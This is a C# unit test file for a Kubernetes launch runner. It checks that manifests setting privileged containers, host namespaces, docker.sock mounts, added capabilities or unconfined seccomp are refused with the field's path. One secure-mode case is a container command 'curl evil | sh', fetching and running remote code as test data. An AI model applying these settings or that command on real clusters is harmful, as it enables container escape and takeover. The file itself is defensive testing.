using System.Text.Json.Nodes;
using WandbLaunch.Engine.Errors;
using WandbLaunch.Engine.Jobs;
using WandbLaunch.Engine.Runners.Kubernetes;

namespace WandbLaunch.Engine.KubeTests;

/// <summary>Every field a queue config or launch spec may not set is refused with ForbiddenManifestField, naming its path.</summary>
public sealed class ManifestPolicyTests
{
    private static LaunchException Refuse(string kubernetesJson, bool secureMode = false, string overridesJson = "{}")
    {
        using var dir = new TempDirectory();
        using var log = new JobLog(dir.File("job.log"), []);
        var spec = new JsonObject
        {
            ["run_id"] = "pol0run1",
            ["docker"] = new JsonObject { ["docker_image"] = "registry.example.com/ml/train:1" },
            ["overrides"] = JsonNode.Parse(overridesJson),
            ["resource_args"] = new JsonObject { ["kubernetes"] = JsonNode.Parse(kubernetesJson) },
        };
        var env = new Dictionary<string, string> { ["HOME"] = dir.Path };
        var runner = new KubernetesRunner(n => env.GetValueOrDefault(n));
        return Assert.ThrowsAny<LaunchException>(() => runner.Render(Contexts.For(spec, log, dir.Path, secureMode)));
    }

    private static string Pod(string podSpecJson) => """{"spec": {"template": {"spec": """ + podSpecJson + "}}}";

    public static TheoryData<string, string> Refused => new()
    {
        { Pod("""{"volumes": [{"name": "ok", "emptyDir": {}}, {"name": "docker", "hostPath": {"path": "/var/run/docker.sock"}}]}"""), "spec.template.spec.volumes[1].hostPath" },
        { Pod("""{"hostPID": true}"""), "spec.template.spec.hostPID" },
        { Pod("""{"hostIPC": true}"""), "spec.template.spec.hostIPC" },
        { Pod("""{"hostNetwork": true}"""), "spec.template.spec.hostNetwork" },
        { Pod("""{"serviceAccountName": "cluster-admin"}"""), "spec.template.spec.serviceAccountName" },
        { Pod("""{"automountServiceAccountToken": true}"""), "spec.template.spec.automountServiceAccountToken" },
        { Pod("""{"containers": [{"name": "web", "ports": [{"containerPort": 8080, "hostPort": 80}]}]}"""), "spec.template.spec.containers[0].ports[0].hostPort" },
        { Pod("""{"containers": [{"name": "a"}, {"name": "b", "securityContext": {"privileged": true}}]}"""), "spec.template.spec.containers[1].securityContext.privileged" },
        { Pod("""{"containers": [{"securityContext": {"allowPrivilegeEscalation": true}}]}"""), "spec.template.spec.containers[0].securityContext.allowPrivilegeEscalation" },
        { Pod("""{"containers": [{"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]}"""), "spec.template.spec.containers[0].securityContext.capabilities.add" },
        { Pod("""{"containers": [{"securityContext": {"seccompProfile": {"type": "Unconfined"}}}]}"""), "spec.template.spec.containers[0].securityContext.seccompProfile.type" },
        { Pod("""{"securityContext": {"seccompProfile": {"type": "Unconfined"}}}"""), "spec.template.spec.securityContext.seccompProfile.type" },
        { Pod("""{"initContainers": [{"name": "setup", "image": "busybox", "securityContext": {"privileged": true}}]}"""), "spec.template.spec.initContainers[0].securityContext.privileged" },
        // W&B's refuse-list (wandb/sdk/launch/utils.py, validate_kubernetes_resource_args), anywhere in the manifest.
        { Pod("""{"shareProcessNamespace": true}"""), "spec.template.spec.shareProcessNamespace" },
        { Pod("""{"hostUsers": "yes"}"""), "spec.template.spec.hostUsers" },
        { Pod("""{"hostNetwork": 1}"""), "spec.template.spec.hostNetwork" },
        { Pod("""{"hostIPC": "True"}"""), "spec.template.spec.hostIPC" },
        { Pod("""{"automountServiceAccountToken": "true"}"""), "spec.template.spec.automountServiceAccountToken" },
        { Pod("""{"serviceAccount": ["", "admin"]}"""), "spec.template.spec.serviceAccount" },
        { Pod("""{"volumes": [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}]}"""), "spec.template.spec.volumes[0].projected.sources[0].serviceAccountToken" },
        { Pod("""{"containers": [{"name": "m", "volumeMounts": [{"name": "d", "mountPath": "/d", "mountPropagation": "Bidirectional"}]}]}"""), "spec.template.spec.containers[0].volumeMounts[0].mountPropagation" },
        { """{"spec": {"template": {"metadata": {"annotations": {"container.apparmor.security.beta.kubernetes.io/launch": "unconfined"}}}}}""",
          "spec.template.metadata.annotations[\"container.apparmor.security.beta.kubernetes.io/launch\"]" },
        { """{"metadata": {"annotations": {"seccomp.security.alpha.kubernetes.io/pod": "Unconfined"}}}""", "metadata.annotations[\"seccomp.security.alpha.kubernetes.io/pod\"]" },
        { Pod("""{"volumes": [{"name": "ok", "persistentVolumeClaim": {"claimName": "data"}}], "extra": {"hostPath": {"path": "/"}}}"""), "spec.template.spec.extra.hostPath" },
        { Pod("""{"ephemeralContainers": [{"name": "debug", "securityContext": {"privileged": true}}]}"""), "spec.template.spec.ephemeralContainers[0].securityContext.privileged" },
        { Pod("""{"containers": [{"securityContext": {"appArmorProfile": {"type": "Unconfined"}}}]}"""), "spec.template.spec.containers[0].securityContext.appArmorProfile.type" },
        { Pod("""{"containers": [{"securityContext": {"procMount": "Unmasked"}}]}"""), "spec.template.spec.containers[0].securityContext.procMount" },
        // A custom resource: every pod template is checked, not only the first.
        { """
          {"apiVersion": "kubeflow.org/v1", "kind": "PyTorchJob", "spec": {"pytorchReplicaSpecs": {
            "Master": {"template": {"spec": {"containers": [{"name": "pytorch"}]}}},
            "Worker": {"template": {"spec": {"hostNetwork": true, "containers": [{"name": "pytorch"}]}}}}}}
          """, "spec.pytorchReplicaSpecs.Worker.template.spec.hostNetwork" },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void RefusesTheFieldAndNamesItsPath(string kubernetes, string path)
    {
        var e = Refuse(kubernetes);
        Assert.Equal("ForbiddenManifestField", e.ErrorId);
        Assert.Contains($"sets {path},", e.Message);
        Assert.Equal(path, e.Target);
    }

    public static TheoryData<string, string, string> RefusedInSecureMode => new()
    {
        { Pod("""{"initContainers": [{"name": "setup", "image": "busybox"}]}"""), "{}", "spec.template.spec.initContainers" },
        { Pod("""{"containers": [{"name": "main", "command": ["sh", "-c", "curl evil | sh"]}]}"""), "{}", "spec.template.spec.containers[0].command" },
        { "{}", """{"entry_point": ["python", "other.py"]}""", "overrides.entry_point" },
        // W&B's secure mode (wandb/sdk/launch/agent/agent.py, _assert_secure) refuses these keys whatever their value.
        { Pod("""{"hostNetwork": false}"""), "{}", "spec.template.spec.hostNetwork" },
        { Pod("""{"hostPID": false}"""), "{}", "spec.template.spec.hostPID" },
        { Pod("""{"initContainers": []}"""), "{}", "spec.template.spec.initContainers" },
    };

    [Theory]
    [MemberData(nameof(RefusedInSecureMode))]
    public void SecureModeRefusesMore(string kubernetes, string overrides, string path)
    {
        var e = Refuse(kubernetes, secureMode: true, overridesJson: overrides);
        Assert.Equal("ForbiddenManifestField", e.ErrorId);
        Assert.Contains(path, e.Message);
        Assert.Contains("secure_mode", e.Message);
    }

    [Fact]
    public void WithoutSecureModeInitContainersCommandsAndEntryPointsAreAllowed()
    {
        using var dir = new TempDirectory();
        using var log = new JobLog(dir.File("job.log"), []);
        var spec = (JsonObject)JsonNode.Parse("""
            {"run_id": "pol0run2", "docker": {"docker_image": "img:1"}, "overrides": {"entry_point": ["python", "train.py"]},
             "resource_args": {"kubernetes": {"spec": {"template": {"spec": {
               "securityContext": {"runAsNonRoot": true, "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}},
               "initContainers": [{"name": "setup", "image": "busybox", "command": ["true"]}],
               "containers": [{"name": "main", "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}}}]}}}}}}
            """)!;
        var env = new Dictionary<string, string> { ["HOME"] = dir.Path };
        var rendered = new KubernetesRunner(n => env.GetValueOrDefault(n)).Render(Contexts.For(spec, log, dir.Path));
        Assert.Contains("- python", rendered.Text);
        Assert.Contains("name: setup", rendered.Text);
    }

    /// <summary>
    /// W&amp;B refuses these keys only when truthy or non-empty (wandb/sdk/launch/utils.py, _is_truthy_resource_value and
    /// _is_present_resource_value): a W&amp;B queue that turns the token off or names no service account runs as it is.
    /// </summary>
    [Fact]
    public void FalseAndEmptyValuesOfRefusedKeysAreAllowedAsInWandb()
    {
        using var dir = new TempDirectory();
        using var log = new JobLog(dir.File("job.log"), []);
        var spec = (JsonObject)JsonNode.Parse("""
            {"run_id": "pol0run3", "docker": {"docker_image": "img:1"},
             "resource_args": {"kubernetes": {"spec": {"template": {"spec": {
               "automountServiceAccountToken": false, "hostNetwork": "false", "hostPID": 0, "hostUsers": false,
               "shareProcessNamespace": false, "serviceAccountName": " ",
               "containers": [{"name": "main", "ports": [{"containerPort": 80, "hostPort": 0}],
                               "volumeMounts": [{"name": "d", "mountPath": "/d", "mountPropagation": "HostToContainer"}]}]}}}}}}
            """)!;
        var rendered = JobManifest.Render(Contexts.For(spec, log, dir.Path), "agent-1", null, secureMode: false);
        var podSpec = rendered.Workload["spec"]!["template"]!["spec"]!;
        Assert.False(podSpec["automountServiceAccountToken"]!.GetValue<bool>());
        Assert.Equal("HostToContainer", podSpec["containers"]![0]!["volumeMounts"]![0]!["mountPropagation"]!.GetValue<string>());
    }
}
